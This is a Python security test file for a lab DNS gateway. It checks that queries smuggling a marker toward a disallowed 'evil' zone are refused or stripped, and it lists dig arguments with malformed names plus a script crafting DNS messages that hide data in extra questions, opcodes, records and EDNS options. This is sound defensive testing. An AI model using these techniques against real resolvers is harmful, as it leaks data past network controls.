"""Issue 9.1: DNS exfiltration through a query name that is not the name judged, or through parts of the query
that were never judged (other questions, opcodes, records, EDNS options).

Each variant carries a fresh marker towards a zone the policy does not allow, from the sandbox through the gateway
resolver (10.203.1.1 / fd00:203:1::1). Judged by the internet-side capture (the marker must never reach ns.lab,
the resolver's upstream), and by the record in Redis (`dns-malformed`, or for the smuggled parts of an allowed
query: the query is answered, the marker stripped).
"""

from __future__ import annotations

import time
import uuid

import pytest

from egress.lab.topology import GATEWAY_SBX_V4, GATEWAY_SBX_V6, server
from tests.security.conftest import LabFactory
from tests.security.harness import POLICIES, Crossed, SecurityLab, report

pytestmark = pytest.mark.security

NS = server("ns").v4
POLICY = POLICIES / "dns.yaml"

# dig's own spelling of the attack: (variant, dig arguments after the server; {m} is the marker)
DIG = [
    ("port-suffix", ["allowed.lab:{m}.evil", "TXT"]),
    ("port-suffix-upper", ["ALLOWED.LAB:{m}.evil", "A"]),
    ("brackets", ["[allowed.lab].{m}.evil", "A"]),
    ("brackets-only", ["[allowed.lab:{m}]", "AAAA"]),
    ("escaped-dot", ["{m}\\.evil.allowed.lab", "TXT"]),
    ("escaped-decimal", ["{m}\\058x.allowed.lab", "NULL"]),
    ("space", ["{m}\\032x.allowed.lab", "TXT"]),
    ("port-suffix-any", ["allowed.lab:{m}.evil", "ANY"]),
    ("port-suffix-tcp", ["+tcp", "allowed.lab:{m}.evil", "TXT"]),
]

# Queries dig cannot write: crafted with the one DNS codec, sent over UDP from the sandbox.
CRAFT = r"""
import socket, sys
from egress.detect import dns
marker, kind, server = sys.argv[1].encode(), sys.argv[2], sys.argv[3]
allowed = dns.Question((b"allowed", b"lab"), dns.A)
fresh = dns.Question((sys.argv[4].encode(), b"t", b"lab"), dns.A)  # allowed by *.t.lab, asked by no other test
evil = dns.Question((marker, b"evil"), dns.TXT)
secret = dns.Record((marker, b"evil"), dns.TXT, 0, dns.txt_data([marker]))
opt = dns.Record((), dns.OPT, 0, (65001).to_bytes(2) + len(marker).to_bytes(2) + marker, 1232)
message = {
    "two-questions": dns.Message(1, dns.RD, (allowed, evil)),
    "evil-second": dns.Message(1, dns.RD, (allowed, dns.Question((b"allowed", b"lab", marker), dns.A))),
    "update-opcode": dns.Message(1, 5 << 11, (dns.Question((b"allowed", b"lab"), dns.SOA),), (), (secret,)),
    "notify-opcode": dns.Message(1, 4 << 11, (dns.Question((b"allowed", b"lab"), dns.SOA),), (secret,)),
    "chaos-class": dns.Message(1, dns.RD, (dns.Question((marker, b"allowed", b"lab"), dns.TXT, 3),)),
    "additional-record": dns.Message(1, dns.RD, (fresh,), (), (secret,), (secret,)),
    "edns-option": dns.Message(1, dns.RD, (fresh,), additionals=(opt,)),
}[kind]
family = socket.AF_INET6 if ":" in server else socket.AF_INET
with socket.socket(family, socket.SOCK_DGRAM) as sock:
    sock.settimeout(5)
    sock.sendto(dns.encode(message), (server, 53))
    try:
        print("rcode", dns.parse(sock.recv(65535)).rcode)
    except OSError as error:
        print("no answer", error)
"""
CRAFTED = ["two-questions", "evil-second", "update-opcode", "notify-opcode", "chaos-class"]
STRIPPED = ["additional-record", "edns-option"]
"""Allowed questions carrying the marker elsewhere: answered, with nothing but the question forwarded. Each asks a
name of its own (``<variant>-<transport>.t.lab``): the resolver caches answers, and a name asked before would be
answered without an upstream exchange for the capture to see."""


def _marker() -> str:
    return "x" + uuid.uuid4().hex[:20]


def _leaked(crossed: Crossed, marker: str) -> int:
    """Marker bytes that crossed towards the internet (each occurrence counts its length)."""
    return sum(data.count(marker.encode()) * len(marker) for data in crossed.payload.values())


@pytest.fixture(scope="module")
def dns_lab(lab_factory: LabFactory) -> SecurityLab:
    return lab_factory(POLICY)


@pytest.mark.parametrize("transport", ["v4", "v6"])
@pytest.mark.parametrize(("variant", "args"), DIG, ids=[variant for variant, _ in DIG])
def test_dig_name_that_is_no_hostname(dns_lab: SecurityLab, variant: str, args: list[str], transport: str) -> None:
    marker = _marker()
    gateway = GATEWAY_SBX_V4 if transport == "v4" else GATEWAY_SBX_V6
    since = time.time()
    with dns_lab.capture(f"dns-exfil-{variant}") as capture:
        done = dns_lab.sandbox(["dig", f"@{gateway}", "+tries=1", "+time=3", *[a.format(m=marker) for a in args]])
    crossed = capture.result
    assert crossed is not None
    leaked = _leaked(crossed, marker)
    goal = leaked > 0
    reason = dns_lab.reason_of(since, lambda r: marker in r.host)
    report(f"dns/exfil-{variant}-{transport}", "dns-exfiltration", leaked, goal, reason)
    assert leaked == 0, crossed.table()
    assert "status: REFUSED" in done.stdout or "status: FORMERR" in done.stdout, done.stdout
    assert reason == "dns-malformed"


@pytest.mark.parametrize("transport", ["v4", "v6"])
@pytest.mark.parametrize("variant", CRAFTED + STRIPPED)
def test_crafted_query_smuggling_a_name(dns_lab: SecurityLab, variant: str, transport: str) -> None:
    marker = _marker()
    gateway = GATEWAY_SBX_V4 if transport == "v4" else GATEWAY_SBX_V6
    since = time.time()
    with dns_lab.capture(f"dns-craft-{variant}") as capture:
        done = dns_lab.sandbox_python(CRAFT, marker, variant, gateway, f"{variant}-{transport}")
    crossed = capture.result
    assert crossed is not None
    leaked = _leaked(crossed, marker)
    goal = leaked > 0
    if variant in STRIPPED:
        report(f"dns/smuggle-{variant}-{transport}", "dns-exfiltration", leaked, goal, None, "answered, stripped")
        assert leaked == 0, crossed.table()
        assert "rcode 0" in done.stdout, done.stdout  # the allowed question itself is answered
        assert crossed.packets_to(NS, 53) > 0, crossed.table()  # and was forwarded: the capture saw it
        return
    reason = dns_lab.reason_of(since, lambda r: r.reason == "dns-malformed" and r.src.startswith(("10.", "fd00")))
    report(f"dns/smuggle-{variant}-{transport}", "dns-exfiltration", leaked, goal, reason)
    assert leaked == 0, crossed.table()
    assert "rcode 0" not in done.stdout, done.stdout
    assert reason == "dns-malformed"
